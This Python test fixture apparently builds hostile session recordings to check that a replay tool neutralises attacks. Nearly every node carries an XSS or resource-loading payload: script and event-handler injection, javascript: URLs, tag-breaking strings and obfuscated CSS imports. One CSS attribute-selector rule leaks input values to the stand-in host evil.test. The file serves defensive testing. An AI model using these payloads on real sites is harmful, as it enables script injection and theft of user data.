"""A recording that attacks whoever plays it: everything in a page that runs, loads, asks, leaves or draws elsewhere.

Every attempt names the host `evil.test` or calls `boom`, so that one search finds what was left in.
"""

from __future__ import annotations

from typing import Any

from support.nodes_and_events import Event, element, event, text

EVIL = "http://evil.test"
PICTURE = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='boom()'><script>boom()</script></svg>"
CSS = [
    f"@import url({EVIL}/a.css); @import '{EVIL}/b.css';",
    f'.a{{background:url({EVIL}/c.png)}} .b{{background:url( "{EVIL}/d.png" )}}',
    f".c{{background:\\75rl({EVIL}/e.png)}} .d{{background:u\\72 l({EVIL}/f.png)}} @\\69mport '{EVIL}/g.css';",
    f".e{{background:image-set('{EVIL}/h.png' 1x)}} .f{{background:-webkit-image-set(url({EVIL}/i.png) 1x)}}",
    f"@font-face{{font-family:x;src:url({EVIL}/j.woff2)}} .g{{font-family:x}}",
    f".h{{behavior:url({EVIL}/k.htc);-moz-binding:url({EVIL}/l.xml);width:expression(boom())}}",
    f".i{{background:url(/*x*/{EVIL}/m.png)}} .j{{background:ur/**/l({EVIL}/n.png)}}",
    f".k{{cursor:url({EVIL}/o.cur),auto}}",
    f".l{{background:url('{EVIL}/p.png}} .m{{content:url({EVIL}/q.png)}}</style><script>boom()</script>",
    f"@namespace url({EVIL}/ns); input[value^='a']{{background:url({EVIL}/r)}} .n{{list-style:url(//evil.test/s)}}",
]


def page() -> dict[str, Any]:
    """A document whose every part attacks; node 90 is a harmless button."""
    handlers = dict.fromkeys(("onclick", "onerror", "onload", "onmouseover", "onfocus", "ontoggle"), "boom()")
    frame = element(60, "iframe", src=f"{EVIL}/frame", srcdoc="<script>boom()</script>", **handlers)
    svg = element(
        40,
        "svg",
        element(41, "script", text(42, "boom()")),
        element(43, "foreignObject", element(44, "iframe", src=f"{EVIL}/x")),
        element(45, "animate", attributeName="href", values="javascript:boom()"),
        element(46, "use", href=f"{EVIL}/sprite.svg#a"),
        element(47, "image", href=f"{EVIL}/svg.png"),
        element(48, "a", text(49, "svg link"), href="javascript:boom()"),
        element(50, "path", d="M0 0h10v10z", fill=f"url({EVIL}/paint#a)", filter=f"url({EVIL}/f#a)"),
        onload="boom()",
    )
    body = [
        element(10, "script", text(11, "boom()"), src=f"{EVIL}/x.js"),
        element(12, "img", src=f"{EVIL}/a.png", srcset=f"{EVIL}/b.png 2x", onerror="boom()"),
        element(13, "img", src="x", onerror="boom()"),
        element(14, "a", text(15, "Click me"), href="javascript:boom()", target="_top", ping=f"{EVIL}/ping"),
        element(16, "a", text(17, "Data"), href="data:text/html,<script>boom()</script>"),
        element(18, "form", element(19, "button", text(20, "Send"), formaction=f"{EVIL}/f"), action=f"{EVIL}/form"),
        element(21, "object", data=f"{EVIL}/o"),
        element(22, "embed", src=f"{EVIL}/e"),
        element(23, "video", element(24, "source", src=f"{EVIL}/v.mp4"), poster=f"{EVIL}/p.png", autoplay=True),
        element(25, "input", type="image", src=f"{EVIL}/i.png", autofocus=True, onfocus="boom()"),
        element(26, "div", style=f"background:url({EVIL}/s.png);width:10px"),
        element(27, "div", style={"background-image": f"url({EVIL}/t.png)"}),
        element(28, "style", text(29, "\n".join(CSS))),
        element(30, "template", element(31, "script", text(32, "boom()"))),
        element(33, "noscript", element(34, "img", src=f"{EVIL}/n.png")),
        element(35, "details", text(36, "x"), open="", ontoggle="boom()"),
        element(37, "body", background=f"{EVIL}/bg.png", onload="boom()"),
        element(38, "img", src=PICTURE),
        element(39, "x-evil", text(61, "</script><script>boom()</script>"), **handlers),
        element(62, "img/onerror=boom()", text(63, "x")),
        element(64, "math", element(65, "mi", text(66, "x"), href="javascript:boom()")),
        element(67, "portal", src=f"{EVIL}/portal"),
        element(68, "img", rr_dataURL=PICTURE, rr_src=f"{EVIL}/rr.png"),
        svg,
        frame,
        element(90, "button", text(91, "</title></style></script><img src=x onerror=boom()>"), id="pay"),
    ]
    head = [
        element(5, "base", href=f"{EVIL}/"),
        element(6, "meta", http_equiv="refresh", content=f"0;url={EVIL}/refresh"),
        element(7, "link", rel="stylesheet", href=f"{EVIL}/l.css"),
        element(8, "link", rel="preconnect", href=EVIL),
        element(9, "link", rel="stylesheet", href="x", _cssText="\n".join(CSS)),
        element(70, "link", rel="dns-prefetch", href=EVIL),
        element(71, "link", rel="prefetch", href=f"{EVIL}/pre"),
        element(72, "link", rel="icon", href=f"{EVIL}/i.ico"),
        element(73, "title", text(74, "</title><script>boom()</script>")),
    ]
    head[4]["attributes"]["_cssText"] = "\n".join(CSS)  # `element` turns underscores into dashes
    head[1]["attributes"]["http-equiv"] = "refresh"
    root = element(2, "html", element(3, "head", *head), element(4, "body", *body), manifest=f"{EVIL}/m")
    return {
        "type": 0,
        "id": 1,
        "childNodes": [{"type": 1, "id": 75, "name": "html", "publicId": '"><script>boom()', "systemId": EVIL}, root],
    }


def refused() -> list[Event]:
    """A page of which browsers or players refuse parts, and with them all of it; node 90 is a harmless button."""
    body = [
        element(80, "constructor", text(81, "x")),
        {"type": 0, "id": 82, "childNodes": [element(83, "html", element(84, "body"))]},
        {"type": 1, "id": 85, "name": "html", "publicId": "", "systemId": ""},
        {**element(86, "input", {**element(87, "b"), "isShadow": True}), "isShadowHost": True},
        element(90, "button", text(91, "Pay"), id="pay"),
    ]
    root = element(2, "html", element(3, "head"), element(4, "body", *body))
    return [
        event(4, {"href": "http://a.test/", "width": 0, "height": 600}),
        event(2, {"node": {"type": 0, "id": 1, "childNodes": [root, element(5, "html")]}}, 10),
        _change(20, texts=[{"id": 4, "value": "x"}]),
    ]


def _change(at_ms: float, **fields: Any) -> Event:
    return event(3, {"source": 0, "texts": [], "attributes": [], "removes": [], "adds": [], **fields}, at_ms)


def recording() -> list[Event]:
    """A visit of 6 s: the page, changes that attack again, and a click on the harmless button (node 90) at 3 s."""
    frame = {"type": 0, "id": 100, "rootId": 100, "childNodes": [element(101, "html", element(102, "body"))]}
    frame["childNodes"][0]["childNodes"][0]["childNodes"] = [
        element(103, "script", text(104, "boom()")),
        element(105, "img", src=f"{EVIL}/in-frame.png", onerror="boom()"),
    ]
    return [
        event(4, {"href": "javascript:boom()", "width": 800, "height": 600}),
        event(2, {"node": page(), "initialOffset": {"left": 0, "top": 0}}, 10),
        _change(500, adds=[{"parentId": 60, "nextId": None, "node": frame}], isAttachIframe=True),
        _change(
            1000,
            adds=[
                {"parentId": 4, "nextId": None, "node": element(110, "script", text(111, "boom()"))},
                {"parentId": 4, "nextId": None, "node": element(112, "img", src=f"{EVIL}/added.png", onerror="boom()")},
                {"parentId": 4, "nextId": None, "node": element(113, "iframe", srcdoc="<script>boom()</script>")},
            ],
            attributes=[
                {"id": 90, "attributes": {"onclick": "boom()", "style": {"background-image": f"url({EVIL}/z)"}}},
                {"id": 14, "attributes": {"href": "javascript:boom()"}},
                {"id": 60, "attributes": {"src": f"{EVIL}/late", "srcdoc": "<script>boom()</script>"}},
                {"id": 12, "attributes": {"src": f"{EVIL}/late.png"}},
                {"id": 9, "attributes": {"_cssText": CSS[0]}},
                {"id": 5, "attributes": {"href": EVIL}},
            ],
            texts=[{"id": 29, "value": CSS[2]}, {"id": 11, "value": "boom()"}, {"id": 42, "value": "boom()"}],
        ),
        event(3, {"source": 8, "id": 28, "adds": [{"rule": rule, "index": 0} for rule in CSS]}, 1200),
        event(
            3,
            {"source": 13, "id": 28, "index": [0], "set": {"property": "background", "value": f"url({EVIL}/y)"}},
            1300,
        ),
        event(
            3, {"source": 15, "id": 1, "styleIds": [1], "styles": [{"styleId": 1, "rules": [{"rule": CSS[1]}]}]}, 1400
        ),
        event(
            3,
            {"source": 9, "id": 90, "type": 0, "commands": [{"property": "drawImage", "args": [{"src": EVIL}]}]},
            1500,
        ),
        event(3, {"source": 10, "family": "x", "fontSource": f"url({EVIL}/font)", "buffer": False}, 1600),
        event(3, {"source": 7, "id": 23, "type": 0}, 1700),
        event(3, {"source": 5, "id": 25, "text": "<script>boom()</script>", "isChecked": False}, 1800),
        event(5, {"tag": "boom()", "payload": {"href": "javascript:boom()"}}, 1900),
        event(6, {"plugin": "rrweb/console@1", "payload": {"level": "error", "payload": ["boom()"]}}, 2000),
        event(3, {"source": 2, "type": 2, "id": 90, "x": 20, "y": 20}, 3000),
        event(3, {"source": 1, "positions": [{"x": 30, "y": 30, "id": 90, "timeOffset": 0}]}, 6000),
    ]


def native() -> list[Event]:
    """A native screen whose views attack."""
    frames = [
        {"id": 1, "type": "image", "base64": f"{EVIL}/a.png", "x": 0, "y": 0, "width": 10, "height": 10},
        {"id": 2, "type": "screenshot", "base64": PICTURE, "x": "0;}", "y": 0, "width": 10, "height": 10},
        {"id": 3, "type": "web_view", "url": f"{EVIL}/w", "width": 10, "height": 10},
        {"id": 4, "type": "text", "text": "<script>boom()</script>", "style": {"color": f"url({EVIL})"}},
        {"id": 5, "type": "div", "style": {"backgroundImage": PICTURE, "fontFamily": "x;background:url(//evil.test)"}},
    ]
    return [
        event(4, {"href": "Home", "width": 390, "height": 844}),
        event(2, {"wireframes": frames, "initialOffset": {"top": 0, "left": 0}}, 10),
        event(3, {"source": 0, "adds": [{"parentId": 5, "wireframe": frames[0] | {"id": 6}}], "updates": []}, 500),
        event(5, {"tag": "keyboard", "payload": {"open": True, "height": f"url({EVIL})"}}, 600),
    ]
